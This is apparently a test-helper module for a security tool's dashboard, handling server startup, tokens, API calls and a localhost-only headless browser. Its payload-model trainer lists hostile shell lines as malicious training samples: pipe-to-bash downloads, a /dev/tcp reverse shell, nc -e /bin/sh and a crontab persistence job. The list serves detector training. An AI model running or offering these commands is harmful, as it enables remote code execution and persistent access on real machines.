// What the browser tests share: a `warden serve` in a temporary folder, tokens, API calls,
// and a headless Chromium that may reach 127.0.0.1 only and reports CSP violations and
// console errors.

import assert from 'node:assert/strict';
import { spawn, execFile } from 'node:child_process';
import { promisify } from 'node:util';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import net from 'node:net';
import { fileURLToPath } from 'node:url';
import { chromium } from 'playwright-core';

const run = promisify(execFile);

export const HERE = path.dirname(fileURLToPath(import.meta.url));
export const ROOT = path.resolve(HERE, '..');
export const ASSETS = path.join(ROOT, 'crates', 'warden-server', 'assets', 'dashboard');
export const OUT = path.resolve(process.env.E2E_OUT || path.join(HERE, 'screenshots'));
export const CHROMIUM = process.env.CHROMIUM || '/usr/bin/chromium';
export const BIN = process.env.WARDEN_BIN ? path.resolve(process.env.WARDEN_BIN) : null;

export const sleep = (ms) => new Promise((r) => setTimeout(r, ms));
export const tid = (id) => `[data-testid="${id}"]`;
export const digits = (s) => Number(String(s).replace(/[^\d]/g, ''));

export function freePort() {
  return new Promise((resolve, reject) => {
    const srv = net.createServer();
    srv.unref();
    srv.on('error', reject);
    srv.listen(0, '127.0.0.1', () => {
      const { port: p } = srv.address();
      srv.close(() => resolve(p));
    });
  });
}

/** A TOML string. */
const tomlString = (s) => JSON.stringify(String(s));

/** Writes a config file: `sections` is {section: {key: value}} (strings, numbers, arrays of strings). */
export async function writeConfig(file, sections) {
  const lines = [];
  for (const [name, keys] of Object.entries(sections)) {
    lines.push(`[${name}]`);
    for (const [k, v] of Object.entries(keys)) {
      const value = Array.isArray(v) ? `[${v.map(tomlString).join(', ')}]` : typeof v === 'string' ? tomlString(v) : String(v);
      lines.push(`${k} = ${value}`);
    }
    lines.push('');
  }
  await writeFile(file, lines.join('\n'));
  return file;
}

/** The first JSON value of a text holding several one after another (pretty-printed or not). */
export function firstJsonObject(text) {
  let depth = 0;
  let inString = false;
  let escaped = false;
  let start = -1;
  for (let i = 0; i < text.length; i += 1) {
    const c = text[i];
    if (inString) {
      if (escaped) escaped = false;
      else if (c === '\\') escaped = true;
      else if (c === '"') inString = false;
      continue;
    }
    if (c === '"') inString = true;
    else if (c === '{') {
      if (depth === 0) start = i;
      depth += 1;
    } else if (c === '}') {
      depth -= 1;
      if (depth === 0) return JSON.parse(text.slice(start, i + 1));
    }
  }
  throw new Error('no complete JSON object in the text');
}

/**
 * Trains a small payload model (`warden train payload`) on command lines built from parts,
 * one in four malicious, and returns its path: enough for the n-gram model and its combiner.
 */
export async function trainPayloadModel(dir) {
  const benign = ['ls -la {d}', 'git log --oneline -n {n}', 'tar -czf backup{n}.tgz {d}', 'du -sh {d}',
    'grep -rn TODO {d}', 'cp notes{n}.txt {d}', 'df -h', 'ps aux | grep nginx'];
  const malicious = ['curl -s http://203.0.113.{n}/x.sh | bash', 'bash -i >& /dev/tcp/198.51.100.{n}/4444 0>&1',
    'wget -q http://203.0.113.{n}/m -O /tmp/.m{n} && chmod +x /tmp/.m{n} && /tmp/.m{n}',
    'nc -e /bin/sh 198.51.100.{n} 9001', "echo '* * * * * curl http://203.0.113.{n}/b|sh' | crontab -"];
  const dirs = ['/srv/app', 'src', '/home/ann/docs', '~/projects', '/var/www'];
  const lines = [];
  for (let i = 0; i < 400; i += 1) {
    const bad = i % 4 === 0;
    const parts = bad ? malicious : benign;
    const text = parts[Math.floor(i / 4) % parts.length].replaceAll('{n}', String((i % 250) + 1)).replaceAll('{d}', dirs[i % dirs.length]);
    lines.push(JSON.stringify({ text, shell: 'bash', label: bad ? 'malicious' : 'benign' }));
  }
  const input = path.join(dir, 'payload-train.jsonl');
  const out = path.join(dir, 'payload.wpld');
  await writeFile(input, `${lines.join('\n')}\n`);
  await run(BIN, ['train', 'payload', '--bits', '14', '--epochs', '6', '--input', input, '--out', out]);
  return out;
}

export async function createToken(store, scope, tenant = 'acme') {
  const { stdout } = await run(BIN, ['token', 'create', '--store', store, '--scope', scope, '--tenant', tenant]);
  const t = stdout.trim().split(/\s+/).find((w) => w.startsWith('wdn_'));
  assert.ok(t, `token create printed no token: ${stdout}`);
  return t;
}

/** One `warden serve` process on a store, with a config file and extra environment. */
export class Warden {
  constructor({ store, config, port, env = {} }) {
    this.store = store;
    this.config = config;
    this.port = port;
    this.env = env;
    this.origin = `http://127.0.0.1:${port}`;
    this.proc = null;
    this.log = '';
    this.token = null;
  }

  async start(ms = 30_000) {
    const args = ['serve', '--store', this.store, '--listen', `127.0.0.1:${this.port}`];
    if (this.config) args.push('--config', this.config);
    this.proc = spawn(BIN, args, { env: { ...process.env, ...this.env }, stdio: ['ignore', 'pipe', 'pipe'] });
    this.proc.stdout.on('data', (d) => { this.log += d; });
    this.proc.stderr.on('data', (d) => { this.log += d; });
    const end = Date.now() + ms;
    for (;;) {
      try {
        const res = await fetch(`${this.origin}/healthz`);
        if (res.ok) return;
      } catch {
        /* not up yet */
      }
      if (this.proc.exitCode !== null) throw new Error(`warden serve exited (${this.proc.exitCode}):\n${this.log}`);
      if (Date.now() > end) throw new Error(`warden serve did not answer /healthz:\n${this.log}`);
      await sleep(100);
    }
  }

  async stop() {
    const p = this.proc;
    if (!p || p.exitCode !== null) return;
    const done = new Promise((r) => p.once('exit', r));
    p.kill('SIGTERM');
    const t = setTimeout(() => p.kill('SIGKILL'), 5000);
    await done;
    clearTimeout(t);
  }

  /** Kills the process when node exits without the test's teardown (a crash). */
  killOnExit() {
    process.on('exit', () => {
      if (this.proc && this.proc.exitCode === null) this.proc.kill('SIGKILL');
    });
  }

  async api(pathname, { method = 'GET', body, contentType = 'application/json', as = this.token } = {}) {
    const res = await fetch(`${this.origin}${pathname}`, {
      method,
      headers: { Authorization: `Bearer ${as}`, ...(body !== undefined ? { 'Content-Type': contentType } : {}) },
      body: body === undefined ? undefined : (typeof body === 'string' ? body : JSON.stringify(body)),
    });
    const text = await res.text();
    if (!res.ok) throw new Error(`${method} ${pathname}: HTTP ${res.status} ${text}`);
    return text ? JSON.parse(text) : null;
  }
}

export function hostOf(url) {
  if (url.startsWith('data:')) return '127.0.0.1';
  const inner = url.startsWith('blob:') ? url.slice(5) : url;
  try {
    return new URL(inner).hostname;
  } catch {
    return '?';
  }
}

/** The Trusted Types directives the dashboard's policy carries (no HTML, script or script-URL sinks). */
export const TRUSTED_TYPES = "require-trusted-types-for 'script'; trusted-types 'none'";

/**
 * Headless Chromium with its own profile. Nothing may leave the machine: requests for other
 * hosts are recorded in `blocked` and refused. CSP violations, page errors and console
 * errors are recorded (console errors matching a function in `tolerated` are not).
 * trustedTypes: the dashboard's pages are held to Trusted Types even when the server's
 * policy does not ask for them (an older binary): the directives are added to the page's
 * policy, so a use of an HTML sink is a recorded violation.
 */
export async function launchBrowser(profileDir, { viewport = { width: 1280, height: 800 }, trustedTypes = false } = {}) {
  const state = { requests: [], blocked: [], consoleProblems: [], cspViolations: [], tolerated: [] };
  const context = await chromium.launchPersistentContext(profileDir, {
    executablePath: CHROMIUM,
    headless: true,
    viewport,
    acceptDownloads: true,
    args: [
      '--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run',
      '--disable-background-networking', '--disable-component-update', '--disable-sync',
    ],
  });
  await context.route('**/*', async (route) => {
    const req = route.request();
    const url = req.url();
    if (hostOf(url) !== '127.0.0.1') {
      state.blocked.push(url);
      return route.abort('blockedbyclient');
    }
    if (trustedTypes && req.resourceType() === 'document' && new URL(url).pathname.startsWith('/ui')) {
      const res = await route.fetch({ maxRedirects: 0 });
      const headers = res.headers();
      const csp = headers['content-security-policy'];
      if (csp && !/require-trusted-types-for/.test(csp)) headers['content-security-policy'] = `${csp}; ${TRUSTED_TYPES}`;
      return route.fulfill({ response: res, headers });
    }
    return route.continue();
  });
  await context.exposeBinding('__reportCsp', (_src, v) => { state.cspViolations.push(v); });
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', (e) => {
      window.__reportCsp(`${e.violatedDirective} ${e.blockedURI} ${e.sourceFile}:${e.lineNumber}`);
    });
  });
  const page = context.pages()[0] || await context.newPage();
  page.on('request', (r) => state.requests.push(r.url()));
  page.on('pageerror', (e) => state.consoleProblems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() !== 'error') return;
    const text = m.text();
    const url = (m.location() && m.location().url) || '';
    if (state.tolerated.some((t) => t(text, url))) return;
    state.consoleProblems.push(`${text} ${url}`);
  });
  return { context, page, ...state, state };
}

/** Signs in on the sign-in form. */
export async function signIn(page, token) {
  await page.locator(tid('signin-token')).fill(token);
  await page.locator(tid('signin-submit')).click();
}
